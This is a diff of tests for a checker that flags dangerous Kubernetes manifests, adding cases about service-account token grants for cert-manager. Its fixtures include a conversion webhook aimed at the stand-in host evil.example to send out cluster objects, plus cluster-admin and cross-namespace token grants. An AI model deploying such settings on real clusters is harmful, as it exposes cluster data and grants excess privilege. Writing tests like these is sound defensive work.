@@ -102,7 +102,7 @@ describe('what a manifest could smuggle in under the right names', () => {
     ],
     [
       binding('kind: ClusterRole, name: cluster-admin', own),
-      "binds ClusterRole 'cluster-admin'; accepted: ClusterRole 'ingress-nginx'",
+      "binds ClusterRole 'cluster-admin'; accepted: roles of the manifest itself",
     ],
     [
       binding(
@@ -170,6 +170,41 @@ spec: { conversion: { webhook: { clientConfig: { url: 'https://evil.example' } }
         'cert-manager',
       )[0],
     ).toContain('sends objects to https://evil.example');
+  });
+});
+
+describe('tokens of service accounts', () => {
+  const role = (namespace: string, names: string) => `
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: { name: cert-manager-tokenrequest, namespace: ${namespace} }
+rules: [{ apiGroups: [''], resources: [serviceaccounts/token], resourceNames: ${names}, verbs: [create] }]`;
+
+  it('of its own, by name, are granted', () => {
+    expect(
+      problems(role('cert-manager', '[cert-manager]'), 'cert-manager'),
+    ).toEqual([]);
+    expect(
+      problems(
+        `
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: { name: cert-manager-cert-manager-tokenrequest, namespace: cert-manager }
+roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: cert-manager-tokenrequest }
+subjects: [{ kind: ServiceAccount, name: cert-manager, namespace: cert-manager }]`,
+        'cert-manager',
+      ),
+    ).toEqual([]);
+  });
+
+  it.each([
+    ['cert-manager', '[]'],
+    ['cert-manager', '[cert-manager, other]'],
+    ['kube-system', '[cert-manager]'],
+  ])('in %s for %s are not', (namespace, names) => {
+    expect(problems(role(namespace, names), 'cert-manager').join()).toContain(
+      "grants 'serviceaccounts/token'",
+    );
   });
 });
 
